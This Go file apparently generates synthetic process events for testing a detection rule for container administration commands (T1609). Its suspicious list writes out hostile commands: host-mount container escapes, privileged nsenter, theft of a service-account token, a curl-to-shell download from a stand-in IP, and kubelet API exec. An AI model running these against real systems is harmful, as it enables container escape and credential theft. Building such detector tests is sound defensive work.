package workload

import "strings"

// use is a way in which a process is started: its file and command line, and those of its parent. Command lines hold
// {places} that each event fills anew.
type use struct {
	folder, file, command string
	parentFolder, parent  string
	parentCommand         string
	grandparent           string
	vendor                *vendor
}

// vendor is what the version resource of a Windows file says; Linux has none.
type vendor struct{ company, product, version string }

var (
	microsoft = &vendor{"Microsoft Corporation", "Microsoft® Windows® Operating System", "10.0.22621.3527"}
	google    = &vendor{"Google LLC", "Google Chrome", "131.0.6778.86"}
	office    = &vendor{"Microsoft Corporation", "Microsoft Office", "16.0.18129.20158"}
)

const (
	system32 = `C:\Windows\System32\`
	chrome   = `C:\Program Files\Google\Chrome\Application\`
	office16 = `C:\Program Files\Microsoft Office\root\Office16\`
	ps       = `C:\Windows\System32\WindowsPowerShell\v1.0\`
)

var windowsUses = []use{
	{system32, "svchost.exe", `svchost.exe -k netsvcs -p -s {word}`, system32, "services.exe", "services.exe", "wininit.exe", microsoft},
	{system32, "svchost.exe", `svchost.exe -k LocalServiceNetworkRestricted -p`, system32, "services.exe", "services.exe", "wininit.exe", microsoft},
	{system32, "conhost.exe", `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, system32, "cmd.exe", `cmd.exe /c "{word}.cmd"`, "explorer.exe", microsoft},
	{system32, "cmd.exe", `cmd.exe /d /s /c "C:\ProgramData\{word}\update.cmd --run {n}"`, system32, "taskhostw.exe", "taskhostw.exe", "svchost.exe", microsoft},
	{system32, "taskhostw.exe", "taskhostw.exe {hex}", system32, "svchost.exe", "svchost.exe -k netsvcs -p -s Schedule", "services.exe", microsoft},
	{system32, "rundll32.exe", `rundll32.exe C:\Windows\system32\inetcpl.cpl,ClearMyTracksByProcess Flags:{n} WinX:0 WinY:0`, system32, "explorer.exe", "explorer.exe", "userinit.exe", microsoft},
	{system32, "backgroundTaskHost.exe", `"C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppX{hex}.mca`, system32, "svchost.exe", "svchost.exe -k DcomLaunch -p", "services.exe", microsoft},
	{ps, "powershell.exe", `powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\ProgramData\{word}\inventory.ps1" -RunId {hex}`, system32, "svchost.exe", "svchost.exe -k netsvcs -p -s Schedule", "services.exe", microsoft},
	{ps, "powershell.exe", `powershell.exe -c "Get-Content C:\Logs\{word}.log | Select-String 'run -it'"`, system32, "cmd.exe", "cmd.exe", "explorer.exe", microsoft},
	{chrome, "chrome.exe", `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=de --renderer-client-id={n} --launch-time-ticks={n} --metrics-shmem-handle={n},i,{n},{n},262144 --field-trial-handle={n},i,{n},{n} /prefetch:1`, chrome, "chrome.exe", `"C:\Program Files\Google\Chrome\Application\chrome.exe"`, "explorer.exe", google},
	{chrome, "chrome.exe", `"C:\Program Files\Google\Chrome\Application\chrome.exe" --single-argument https://{word}.example/articles/{n}?ref=run&attach={hex}`, office16, "OUTLOOK.EXE", `"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"`, "explorer.exe", google},
	{office16, "WINWORD.EXE", `"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Documents\Angebot für {word}.docx" /o ""`, system32, "explorer.exe", "explorer.exe", "userinit.exe", office},
	{office16, "EXCEL.EXE", `"C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "\\{word}-fs01\share\Umsatz {n}.xlsx"`, system32, "explorer.exe", "explorer.exe", "userinit.exe", office},
	{`C:\Program Files\Git\cmd\`, "git.exe", "git.exe -c core.quotepath=false log --format=%H -n {n}", `C:\Program Files\nodejs\`, "node.exe", "node.exe run build", "Code.exe", nil},
	{`C:\Program Files\Git\bin\`, "bash.exe", `bash.exe -c "sh run-tests.sh --iterations {n}"`, `C:\Program Files\nodejs\`, "node.exe", "node.exe test", "Code.exe", nil},
	{`C:\Program Files\nodejs\`, "node.exe", "node.exe exec -it {word} sh", system32, "cmd.exe", "cmd.exe", "WindowsTerminal.exe", nil},
}

// windowsTools name a container tool on Windows, and are not found: the rule of T1609 looks for other files.
var windowsTools = []use{
	{ps, "powershell.exe", `powershell.exe -c "Get-Content C:\Logs\{word}.log | Select-String 'docker run -it'"`, system32, "cmd.exe", "cmd.exe", "explorer.exe", microsoft},
	{`C:\Program Files\Docker\Docker\resources\bin\`, "docker.exe", "docker.exe exec -it {word} sh", system32, "cmd.exe", "cmd.exe", "WindowsTerminal.exe", nil},
}

const (
	usr  = "/usr/bin/"
	sbin = "/usr/sbin/"
)

var linuxUses = []use{
	{usr, "bash", "bash -c 'test -e /var/run/{word}.pid && exec kill -0 {n}'", sbin, "cron", "/usr/sbin/CRON -f -P", "cron", nil},
	{usr, "dash", `/bin/sh -c "cd / && run-parts --report /etc/cron.hourly"`, sbin, "cron", "/usr/sbin/CRON -f -P", "cron", nil},
	{usr, "python3.11", "/usr/bin/python3 /opt/{word}/agent.py --run-id {hex} --interval {n}", usr, "bash", "/bin/bash /opt/{word}/start.sh", "systemd", nil},
	{usr, "grep", "grep -iE exec|attach /var/log/{word}.log", usr, "bash", "-bash", "sshd", nil},
	{usr, "curl", "curl -sf http://127.0.0.1:10250/healthz?n={n}", usr, "bash", "bash /usr/local/bin/{word}-probe", "systemd", nil},
	{usr, "curl", "curl -s https://{word}.example/api/v2/run/{n} -H 'Accept: application/json'", usr, "python3", "python3 /opt/{word}/poll.py", "systemd", nil},
	{sbin, "sshd", "sshd: {user} [priv]", sbin, "sshd", "/usr/sbin/sshd -D", "systemd", nil},
	{usr, "node", "node /srv/{word}/server.js --port {n} --trace", usr, "npm", "npm run start", "systemd", nil},
	{usr, "java", "java -Xmx{n}m -cp /opt/{word}/lib/*:/opt/{word}/conf org.example.{word}.Main --run", usr, "systemd", "/sbin/init", "", nil},
	{usr, "runc", "runc --root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/{hex}/log.json --log-format json exec --process /tmp/runc-process{n} --detach --pid-file /run/containerd/{hex}.pid {hex}", usr, "containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id {hex} -address /run/containerd/containerd.sock", "systemd", nil},
	{"/pause/", "pause", "/pause", usr, "runc", "runc init", "containerd-shim-runc-v2", nil},
	{usr, "git", "git fetch --depth {n} origin refs/heads/{word}", usr, "gitlab-runner", "/usr/bin/gitlab-runner run --working-directory /home/gitlab-runner", "systemd", nil},
	{usr, "psql", "psql -h {word}-db -U app -c 'select count(*) from jobs where id > {n}'", usr, "bash", "/bin/bash /usr/local/bin/report-{word}", "cron", nil},
	{usr, "node_exporter", "node_exporter --collector.textfile.directory=/var/lib/{word} --web.listen-address=:9100", usr, "systemd", "/sbin/init", "", nil},
}

// suspiciousUses are found by the rule of T1609 unless they are too old.
var suspiciousUses = tools(
	"bash | -bash | docker exec -it {word}-{n} bash",
	"bash | -bash | docker run --rm -it -v /:/host alpine:3.20 chroot /host",
	"bash | /bin/bash /tmp/.{hex}/x.sh | docker run -d --privileged --pid=host --name {word} alpine nsenter -t 1 -m -u -n sh",
	"bash | -bash | docker run --net=host --cap-add=NET_ADMIN {word}/tools:{n} tcpdump -w /out",
	"bash | -bash | podman run --security-opt label=disable -v /var/log:/l:ro {word} tail -f /l/messages",
	"bash | -bash | nerdctl run --ipc=host -t {word}/gpu:{n} nvidia-smi",
	"bash | -bash | kubectl exec -it {word}-{hex} -n {word} -- /bin/sh",
	"bash | -bash | kubectl attach {word}-{hex} -c {word} -i -t",
	"bash | -bash | crictl exec -i -t {hex} sh",
	"bash | -bash | ctr -n k8s.io tasks exec --tty --exec-id {word}{n} {hex} sh",
	"zsh | -zsh | Docker EXEC -IT {word}-{n} BASH",
	"python3 | python3 /opt/{word}/ops.py | docker exec {word}-{n} id",
	"python3 | python3 /tmp/{hex}.py | kubectl exec {word}-{hex} -- cat /var/run/secrets/kubernetes.io/serviceaccount/token",
	"node | node /srv/{word}/hook.js | docker run --rm {word}:{n} migrate",
	"perl | perl -e print | docker run -it --privileged --net=host {word} bash -c \"curl -s http://203.0.113.{octet}/x | sh\"",
	"gitlab-runner | gitlab-runner exec | docker exec {word} /bin/sh -c 'echo \"größe: {n}\" > /tmp/{hex}'",
	"docker | docker exec {word} curl | curl -sk https://10.0.{octet}.17:10250/run/kube-system/{word}/{word} -d cmd=id",
	"podman | podman exec {word} wget | wget -qO- --post-data cmd=ls https://10.0.{octet}.17:10250/exec/{word}",
	"kubectl | kubectl exec {word} | kubectl-debug run -it node-{n}",
)

// quietUses are by container tools as well, and are not found: nothing to add up, or too little.
var quietUses = tools(
	"bash | -bash | docker ps --format {{.Names}}",
	"bash | -bash | docker logs -f --tail {n} {word}-executor",
	"bash | -bash | docker inspect -f {{.State.Running}} {word}-{n}",
	"gitlab-runner | gitlab-runner exec | docker build -t {word}:{n} --build-arg SHELL=/bin/sh .",
	"gitlab-runner | gitlab-runner run | docker run --rm {word}:{n} make test",
	"gitlab-runner | gitlab-runner run | docker run -itd --name bench-{n} {word} bench --iterations {n}",
	"systemd | /sbin/init | docker run --rm --network=host --pid=hostname {word}:{n} --interactive=false",
	"datadog-agent | datadog-agent run | crictl exec {hex} /bin/grpc_health_probe -addr=:{n}",
	"datadog-agent | datadog-agent run | crictl stats -o json {hex}",
	"bash | -bash | kubectl get pods -n {word} -o wide",
	"bash | -bash | kubectl exec {word}-{hex} -- ls /data",
	"python3 | python3 /opt/{word}/sync.py | kubectl apply -f /srv/{word}/{n}.yaml",
	"bash | -bash | podman pull registry.example/{word}:{n}",
	"bash | -bash | nerdctl run {word}:{n} rsync --stats ssh://{word}",
	"systemd | /sbin/init | ctr -n k8s.io images ls -q",
	"docker | docker run {word} | curl -s http://{word}:102500/?exec={n}",
	"docker | docker start {word} | containerd-shim-runc-v2 -namespace moby -id {hex}",
)

// tools reads "parent | its command line | command line"; the process is the first word of the command line.
func tools(lines ...string) []use {
	uses := make([]use, len(lines))
	for i, text := range lines {
		part := strings.SplitN(text, " | ", 3)
		file, _, _ := strings.Cut(part[2], " ")
		uses[i] = use{usr, file, part[2], usr, part[0], part[1], "sshd", nil}
	}
	return uses
}
